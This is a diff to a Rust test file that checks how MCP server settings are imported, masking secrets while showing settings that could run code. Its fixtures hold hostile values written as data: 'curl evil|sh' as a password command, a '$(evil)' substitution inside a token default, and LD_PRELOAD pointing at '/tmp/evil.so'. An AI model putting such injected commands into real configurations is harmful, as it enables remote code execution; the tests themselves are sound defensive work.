@@ -3,8 +3,8 @@
 use std::fs;
 
 use gatehouse_integrations::App;
-use gatehouse_integrations::import::{entry_settings, entry_summary, has_plain_secret, read_file, read_text};
-use serde_json::{Value, json};
+use gatehouse_integrations::import::{FilledServer, has_plain_secret, read_file, read_text};
+use serde_json::{Map, Value, json};
 
 use crate::TestHome;
 
@@ -99,9 +99,21 @@ fn summaries_have_no_secrets() {
         (json!({}), "", false),
     ] {
         let Value::Object(entry) = entry else { panic!("{entry}") };
-        assert_eq!(entry_summary(&entry), wanted);
         assert_eq!(has_plain_secret(&entry), has_secret, "{wanted}");
+        assert_eq!(unfilled(entry).summary(), wanted);
     }
+}
+
+fn unfilled(entry: Map<String, Value>) -> FilledServer {
+    FilledServer { entry, secrets: Vec::new() }
+}
+
+fn settings_of(server: &FilledServer) -> Vec<(String, String)> {
+    server.settings().into_iter().map(|setting| (setting.name, setting.value)).collect()
+}
+
+fn pairs<const N: usize>(settings: [(&str, &str); N]) -> Vec<(String, String)> {
+    settings.map(|(name, value)| (name.to_owned(), value.to_owned())).into()
 }
 
 #[test]
@@ -114,16 +126,47 @@ fn settings_show_what_could_run_and_no_secret() {
         "headersFrom": { "command": "z" }
     });
     let Value::Object(entry) = entry else { panic!("{entry}") };
-    let found: Vec<(String, String)> =
-        entry_settings(&entry).into_iter().map(|setting| (setting.name, setting.value)).collect();
-    let wanted = [
+    let wanted = pairs([
         ("env.API_KEY", "••••••"),
         ("env.LD_PRELOAD", "/tmp/evil.so"),
         ("env.K", "${secret:K}"),
         ("cwd", "/srv"),
         ("headersFrom", r#"{"command":"z"}"#),
-    ];
-    assert_eq!(found, wanted.map(|(name, value)| (name.to_owned(), value.to_owned())));
+    ]);
+    assert_eq!(settings_of(&unfilled(entry)), wanted);
+}
+
+/// Whoever writes the settings chooses the names of variables, so a name is no reason to hide what could be code.
+#[test]
+fn settings_show_code_in_the_place_of_a_secret() {
+    let text = r#"{"mcpServers":{"a":{"command":"rclone","env":{
+        "RCLONE_PASSWORD_COMMAND": "curl evil|sh", "GIT_TOKEN": "${T:-$(evil)}", "API_KEY": "s3cret-1",
+        "AUTH_TOKEN": "${U:-s3cret-2}", "OTHER_TOKEN": "${V}"
+    }}}}"#;
+    let settings = read_text(text, &TestHome::new().folders).unwrap();
+    let server = settings.servers[0].fill_known().unwrap();
+    let fields: Vec<&str> = server.secrets.iter().map(|secret| secret.field.as_str()).collect();
+    for field in ["env/RCLONE_PASSWORD_COMMAND", "env/GIT_TOKEN", "env/API_KEY", "env/AUTH_TOKEN"] {
+        assert!(fields.contains(&field), "{field} goes to the keychain: {fields:?}");
+    }
+    let wanted = pairs([
+        ("env.RCLONE_PASSWORD_COMMAND", "curl evil|sh"),
+        ("env.GIT_TOKEN", "$(evil)"),
+        ("env.API_KEY", "${secret:API_KEY}"),
+        ("env.AUTH_TOKEN", "${secret:AUTH_TOKEN}"),
+        ("env.OTHER_TOKEN", "${secret:OTHER_TOKEN}"),
+    ]);
+    assert_eq!(settings_of(&server), wanted);
+}
+
+#[test]
+fn settings_show_what_a_built_in_server_reaches() {
+    let text = r#"{"mcpServers":{"a":{"type":"builtin","builtin":{"kind":"files","folder":"/"}},
+        "b":{"type":"builtin","builtin":{"kind":"fetch","allowPrivate":true}}}}"#;
+    let settings = read_text(text, &TestHome::new().folders).unwrap();
+    let shown = settings.servers.iter().map(|server| settings_of(&server.fill_known().unwrap()));
+    let wanted = [pairs([("builtin.folder", "/")]), pairs([("builtin.allowPrivate", "true")])];
+    assert_eq!(shown.collect::<Vec<_>>(), wanted);
 }
 
 #[test]
@@ -150,6 +193,6 @@ fn shows_no_secret_of_a_sign_in_that_is_not_taken_out() {
     let settings = read_text(text, &TestHome::new().folders).unwrap();
     let server = &settings.servers[0];
     assert!(server.fill_known().is_err(), "one header would need two secrets");
-    let shown = format!("{:?}", entry_settings(&server.entry));
+    let shown = format!("{:?}", settings_of(&unfilled(server.entry.clone())));
     assert!(shown.contains("id-1") && !shown.contains("s3cret-1"), "{shown}");
 }
